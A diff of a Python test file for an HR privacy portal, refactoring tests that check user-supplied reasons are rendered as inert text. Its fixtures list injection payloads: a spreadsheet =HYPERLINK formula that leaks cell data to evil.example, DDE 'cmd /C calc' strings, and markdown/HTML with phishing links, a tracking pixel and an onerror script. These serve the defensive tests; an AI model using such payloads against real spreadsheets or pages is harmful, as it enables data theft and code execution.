@@ -37,7 +37,8 @@ from tests.test_pages import PORTAL
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-MARKDOWN = "[click me](http://evil.example/phish) ![](http://evil.example/pixel.png) <img src=x onerror=alert(1)> **bold**"
+MARKDOWN = ("[click me](http://evil.example/phish) ![](http://evil.example/pixel.png) <img src=x onerror=alert(1)> "
+            "**bold**")
 HTML_NAME = '<a href="http://evil.example/phish">svc-reporting</a>'
 
 
@@ -121,9 +122,9 @@ def test_colleagues_in_free_text_are_pseudonymized_in_console_slices(planted):
     assert len(set(re.findall(r"colleague-[0-9a-f]{10}", shown))) == 1, "one colleague, one pseudonym, everywhere"
 
 
-def test_a_deletion_reason_is_shown_to_the_officer_as_text(tmp_path, lake, monkeypatch, demo_users):
-    monkeypatch.setenv("PORTAL_CONFIG", str(write_config(tmp_path, lake)))
-    backend = Backend.open(write_config(tmp_path, lake))
+def test_a_deletion_reason_is_shown_to_the_officer_as_text(config, monkeypatch, demo_users):
+    monkeypatch.setenv("PORTAL_CONFIG", str(config))
+    backend = Backend.open(config)
     employee = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
     backend.requests.submit(principal_for(employee), Scope(True), MARKDOWN)
     backend.close()
@@ -137,9 +138,9 @@ def test_a_deletion_reason_is_shown_to_the_officer_as_text(tmp_path, lake, monke
     assert not any("evil.example" in value for value in rendered)
 
 
-def test_an_officers_reason_is_shown_to_the_employee_as_text(tmp_path, lake, monkeypatch, demo_users):
-    monkeypatch.setenv("PORTAL_CONFIG", str(write_config(tmp_path, lake)))
-    backend = Backend.open(write_config(tmp_path, lake))
+def test_an_officers_reason_is_shown_to_the_employee_as_text(config, monkeypatch, demo_users):
+    monkeypatch.setenv("PORTAL_CONFIG", str(config))
+    backend = Backend.open(config)
     employee = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
     officer = backend.directory.by_id(demo_users["HR privacy officer"]["employee_id"])
     request = backend.requests.submit(principal_for(employee), Scope(True), "please")
